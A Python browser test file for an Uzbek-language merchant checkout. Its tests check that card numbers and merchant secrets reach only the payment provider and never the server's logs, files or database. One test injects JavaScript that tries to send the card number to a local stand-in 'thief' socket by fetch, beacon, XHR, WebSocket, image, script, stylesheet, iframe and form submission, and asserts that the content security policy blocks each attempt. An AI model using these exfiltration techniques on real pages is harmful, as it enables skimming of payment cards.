"""A merchant with keys of its own, whose providers are on another origin: where a card goes, and where
it cannot go. The providers are the doubles in a process of their own, asked over HTTP."""

import contextlib
import json
import os
import socket
import subprocess
import time
import urllib.request

from test_checkout import (CARD, attempts, charges, checkout, choose, heading, order, paid, press,
                           sign_contract, type_card, type_code)
from test_switching import kept
from world import BINARY, ROOT

EXPIRY = "0399"
SECRETS = ("key-of-a-merchant-for-tests-00000001", "secret-of-a-merchant-for-tests",
           "token-of-a-merchant-for-tests")


@contextlib.contextmanager
def providers(world):
    """The doubles on a port of their own, and a server that is set up with keys for them."""
    server = world.server
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    origin = f"http://127.0.0.1:{port}"
    file = f"{server.folder}/payments.json"
    with open(file, "w", opener=lambda path, flags: os.open(path, flags, 0o600)) as out:
        json.dump({
            "payme": {"merchantID": "587f72c72cac0d162c722ae2", "key": SECRETS[0],
                      "checkout": f"{origin}/demo/payme/", "api": f"{origin}/demo/payme/api"},
            "click": {"serviceID": "77", "merchantID": "7", "userID": "9", "secret": SECRETS[1],
                      "api": f"{origin}/demo/click/v2/merchant"},
            "installments": {"lender": f"{origin}/demo/lender", "token": SECRETS[2],
                             "rates": {"3": 0, "12": 2400}},
        }, out)
    server.options = ["--payments", file, "--log", "debug"]
    double = subprocess.Popen(
        [BINARY, "sandbox", "provider", "--port", str(port), "--merchant", server.url,
         "--payments", file],
        cwd=ROOT, stdout=server.log, stderr=server.log)
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            try:
                urllib.request.urlopen(f"{origin}/demo/none", timeout=1)
            except urllib.error.HTTPError:
                break
            except OSError:
                time.sleep(0.05)
        yield origin
    finally:
        double.terminate()
        double.wait(timeout=20)


def stolen(thief):
    """What arrived at a socket: a browser may open a connection ahead of time, and say nothing."""
    taken = b""
    while True:
        try:
            connection = thief.accept()[0]
        except BlockingIOError:
            return taken
        connection.settimeout(0.5)
        with contextlib.suppress(TimeoutError), connection:
            taken += connection.recv(65536)


def test_every_way_pays_with_a_merchants_own_keys(world):
    with providers(world) as origin:
        number = order(world)
        page = checkout(world, number)
        ways = [one.get_attribute("value") for one in page.locator(".method input").all()]
        assert ways == ["payme", "card", "click", "installment"], ways
        choose(page, "payme")
        with page.context.expect_page() as opened:
            press(page, "Payme sahifasini ochish")
        assert opened.value.url.startswith(f"{origin}/demo/payme/"), opened.value.url
        opened.value.get_by_role("button", name="To‘lash", exact=True).click()
        paid(world, page, number)
        number = order(world)
        page = checkout(world, number, "click")
        page.get_by_label("Telefon", exact=True).fill("+998901234501")
        press(page, "Hisob yuborish")
        heading(page, "To‘lov tekshirilmoqda")
        paid(world, page, number)
        number = order(world)
        page = checkout(world, number, "installment")
        press(page, "Shartnomaga o‘tish")
        sign_contract(page, "Imzolash")
        paid(world, page, number)
        assert "doubles" in world.server.output() and "demo's keys" not in world.server.output()
        for secret in SECRETS:
            assert secret not in world.server.output()
            for name, content in world.server.files().items():
                assert name == "payments.json" or secret.encode() not in content, name


def test_a_card_goes_to_the_provider_and_nowhere_else(world):
    with providers(world) as origin:
        number = order(world)
        page = checkout(world, number, "card")
        sent = []
        page.context.on("request", lambda request: sent.append(
            (request.url, request.post_data or "", str(request.headers))))
        type_card(page)
        type_code(page)
        paid(world, page, number)
        held = [url for url, body, headers in sent if CARD in url + body + headers]
        assert held == [f"{origin}/demo/payme/api"], held
        assert CARD not in kept(page)
        # Our server's storage, its queue and its log: `files` has the database, its journal, the log.
        assert not any(EXPIRY in row["facts"] or CARD in row["facts"]
                       for row in world.server.rows("payment_attempt"))
        for name, content in world.server.files().items():
            assert CARD.encode() not in content, f"the card is in {name}"
        assert CARD not in world.server.output()
        page.reload()
        paid(world, page, number)
        assert CARD not in kept(page)


def test_a_script_cannot_carry_a_card_to_another_origin(world):
    with providers(world) as origin, socket.socket() as thief:
        thief.bind(("127.0.0.1", 0))
        thief.listen()
        thief.setblocking(False)
        elsewhere = f"http://127.0.0.1:{thief.getsockname()[1]}"
        page = checkout(world, order(world), "card")
        page.get_by_label("Karta raqami").fill(CARD)
        blocked = page.evaluate("""async ([elsewhere, card]) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation",
            (event) => seen.push(event.effectiveDirective));
          const tries = {
            fetch: () => fetch(elsewhere, { method: "POST", body: card, mode: "no-cors" }),
            beacon: async () => {
              navigator.sendBeacon(elsewhere, card);
              await new Promise((resolve) => setTimeout(resolve, 200));
              throw new Error("a beacon says nothing");
            },
            xhr: () => new Promise((resolve, reject) => {
              const request = new XMLHttpRequest();
              request.onload = resolve;
              request.onerror = () => reject(new Error("refused"));
              request.open("POST", elsewhere);
              request.send(card);
            }),
            socket: () => new Promise((resolve, reject) => {
              const made = new WebSocket(elsewhere.replace("http", "ws") + "/?" + card);
              made.onopen = resolve;
              made.onerror = () => reject(new Error("refused"));
            }),
            image: () => new Promise((resolve, reject) => {
              const image = new Image();
              image.onload = resolve;
              image.onerror = () => reject(new Error("refused"));
              image.src = elsewhere + "/?" + card;
            }),
            script: () => new Promise((resolve, reject) => {
              const script = document.createElement("script");
              script.onload = resolve;
              script.onerror = () => reject(new Error("refused"));
              script.src = elsewhere + "/?" + card;
              document.head.append(script);
            }),
            style: () => new Promise((resolve, reject) => {
              const link = document.createElement("link");
              Object.assign(link, { rel: "stylesheet", href: elsewhere + "/?" + card });
              link.onload = resolve;
              link.onerror = () => reject(new Error("refused"));
              document.head.append(link);
            }),
            frame: async () => {
              const frame = document.createElement("iframe");
              frame.src = elsewhere + "/?" + card;
              document.body.append(frame);
              await new Promise((resolve) => setTimeout(resolve, 200));
              throw new Error("a frame says nothing");
            },
            form: async () => {
              const form = document.createElement("form");
              Object.assign(form, { action: elsewhere, method: "post", target: "_blank" });
              const input = document.createElement("input");
              Object.assign(input, { name: "card", value: card });
              form.append(input);
              document.body.append(form);
              form.submit();
              await new Promise((resolve) => setTimeout(resolve, 200));
              throw new Error("a form says nothing");
            },
          };
          const results = {};
          for (const [name, attempt] of Object.entries(tries)) {
            try { await attempt(); results[name] = "went"; } catch { results[name] = "blocked"; }
          }
          await new Promise((resolve) => setTimeout(resolve, 100));
          return [results, [...new Set(seen)].sort()];
        }""", [elsewhere, CARD])
        results, directives = blocked
        assert set(results.values()) == {"blocked"}, results
        assert directives == ["connect-src", "form-action", "frame-src", "img-src",
                              "script-src-elem", "style-src-elem"], directives
        assert stolen(thief) == b"", "something arrived at the other origin"
        # The provider's own origin is open: the same script may send there.
        status = page.evaluate("""async (url) => (await fetch(url, {
          method: "POST", headers: { "Content-Type": "application/json", "X-Auth": "m" },
          body: "{}" })).status""", f"{origin}/demo/payme/api")
        assert status == 200, status
